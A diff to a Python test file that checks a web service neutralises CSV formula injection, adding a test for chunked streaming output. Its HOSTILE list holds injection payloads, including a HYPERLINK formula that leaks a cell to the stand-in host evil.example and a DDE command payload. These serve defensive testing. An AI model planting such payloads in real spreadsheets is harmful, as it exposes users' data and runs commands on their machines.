@@ -3,6 +3,7 @@ stays exact. A real server over a store holding organisations whose names start 
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import shutil
@@ -14,7 +15,7 @@ import pytest
 from weblive import BASE, Server, build_store, start_server, stop_server
 
 from kg.store import OxigraphStore
-from kg.web.http import spreadsheet_cell, spreadsheet_csv
+from kg.web.http import spreadsheet_cell, spreadsheet_csv, spreadsheet_csv_chunks
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rCarriage"]
 
@@ -71,3 +72,22 @@ def test_named_query_csv_is_neutralised_sparql_csv_is_exact(hostile_server: Serv
     raw = httpx.post(f"{hostile_server.url}/sparql", data={"query": query}, headers={"Accept": "text/csv"}, timeout=30)
     assert raw.status_code == 200
     assert set(HOSTILE) <= names_in(raw.text)  # exact: what the store holds
+
+
+def test_a_streamed_csv_is_neutralised_record_by_record_whatever_the_chunking():
+    """The pool streams named-query CSV in chunks that can split a record, a quoted field or a
+    UTF-8 sequence anywhere: every split gives the same bytes as the whole document."""
+    body = 'name,n\r\n"=1+1",-3\r\n"multi\r\nline, ""quoted""",x\r\n@ü€,+y\r\n'.encode()
+    whole = spreadsheet_csv(body)
+    assert whole.count(b"'") == 3
+
+    async def rejoin(parts: list[bytes]) -> bytes:
+        async def gen():
+            for part in parts:
+                yield part
+
+        return b"".join([c async for c in spreadsheet_csv_chunks(gen())])
+
+    for size in range(1, len(body) + 1):
+        parts = [body[i : i + size] for i in range(0, len(body), size)]
+        assert asyncio.run(rejoin(parts)) == whole, size
